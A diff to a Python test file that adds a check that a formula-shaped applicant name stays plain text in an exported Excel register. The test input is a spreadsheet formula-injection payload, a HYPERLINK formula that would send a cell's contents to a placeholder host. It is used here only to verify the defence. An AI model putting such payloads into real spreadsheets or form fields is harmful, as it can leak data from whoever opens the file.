@@ -99,6 +99,18 @@ def test_it_exports_the_register_as_pdf_and_excel(world, receive):
     assert first.applicant_phone not in [sheet.cell(r, 5).value for r in (5, 6)]
 
 
+def test_it_keeps_a_formula_looking_name_as_text_in_excel(world, receive):
+    """An applicant named like a formula must not become a live formula in the register (OWASP)."""
+    receive(name='=HYPERLINK("http://example.invalid/?"&A1,"x")')
+    from neuguong.onestop.models import Dossier
+
+    period = (MONDAY_9.date(), MONDAY_9.date())
+    sheet = load_workbook(io.BytesIO(documents.register_xlsx(Dossier.objects.all(), period))).active
+    cell = sheet.cell(5, 4)
+    assert cell.value.startswith("=HYPERLINK")
+    assert cell.data_type == "s"
+
+
 def test_staff_who_see_the_dossier_get_its_pdf(world, receive, login):
     dossier = receive()
     url = f"/onestop/dossiers/{dossier.code}/documents/receipt/"
